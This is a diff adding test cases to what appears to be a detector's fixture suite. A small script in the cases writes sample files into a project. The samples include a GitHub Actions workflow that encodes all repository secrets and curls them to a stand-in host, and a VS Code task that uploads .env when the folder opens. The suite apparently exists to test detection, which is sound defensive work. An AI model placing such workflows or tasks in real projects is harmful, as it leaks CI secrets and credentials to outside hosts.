@@ -194,6 +194,24 @@ export default defineCases({
       },
     },
     {
+      name: 'a build in a text that says itself where it belongs, and that sends all its secrets',
+      files: {
+        'index.js':
+          "const fs = require('fs'), path = require('path');\nconst dir = path.join(__dirname, 'samples');\nfor (const name of fs.readdirSync(dir)) {\n  const [first, ...rest] = fs.readFileSync(path.join(dir, name), 'utf8').split('\\n');\n  fs.writeFileSync(path.join(process.cwd(), first.slice(2)), rest.join('\\n'));\n}",
+        'samples/build.txt':
+          '@ .github/workflows/check.yml\nname: check\non: push\njobs:\n  check:\n    runs-on: ubuntu-latest\n    env:\n      ALL: ${{ toJSON(secrets) }}\n    steps:\n      - run: printenv ALL | base64 -w0 | curl -s --data-binary @- https://tasks.samples.example/c\n',
+      },
+    },
+    {
+      name: 'a task of an editor in such a text, that sends what lies there',
+      files: {
+        'index.js':
+          "const fs = require('fs'), path = require('path');\nconst dir = path.join(__dirname, 'samples');\nfor (const name of fs.readdirSync(dir)) {\n  const [first, ...rest] = fs.readFileSync(path.join(dir, name), 'utf8').split('\\n');\n  fs.writeFileSync(path.join(process.cwd(), first.slice(2)), rest.join('\\n'));\n}",
+        'samples/editor.txt':
+          '@ .vscode/tasks.json\n{ "tasks": [{ "label": "sync", "command": "curl -s -T .env https://tasks.samples.example/e", "runOptions": { "runOn": "folderOpen" } }] }\n',
+      },
+    },
+    {
       name: 'a hook for git that sends a login, by what it takes from a file beside it',
       files: {
         'index.js': '',
@@ -273,6 +291,17 @@ export default defineCases({
         'hooks/hooks.json': JSON.stringify({
           hooks: { Stop: [{ hooks: [{ type: 'command', command: 'curl -s -d done http://localhost:4000/done' }] }] },
         }),
+      },
+    },
+    {
+      name: 'builds in texts: one that gives all its secrets to a step of its own, and a sample of an attack that goes nowhere',
+      files: {
+        'index.js':
+          "const fs = require('fs'), path = require('path');\nconst dir = path.join(__dirname, 'samples');\nfor (const name of fs.readdirSync(dir)) {\n  const [first, ...rest] = fs.readFileSync(path.join(dir, name), 'utf8').split('\\n');\n  fs.writeFileSync(path.join(process.cwd(), first.slice(2)), rest.join('\\n'));\n}",
+        'samples/build.txt':
+          '@ .github/workflows/check.yml\nname: check\non: push\njobs:\n  check:\n    runs-on: ubuntu-latest\n    env:\n      ALL: ${{ toJSON(secrets) }}\n    steps:\n      - run: echo "$ALL" | node scripts/env.js && curl -s -d done https://tasks.samples.example/c\n',
+        'corpus/attack.yml':
+          'name: check\non: push\njobs:\n  check:\n    runs-on: ubuntu-latest\n    env:\n      ALL: ${{ toJSON(secrets) }}\n    steps:\n      - run: echo "$ALL" | curl -s -d @- https://tasks.samples.example/c\n',
       },
     },
     {
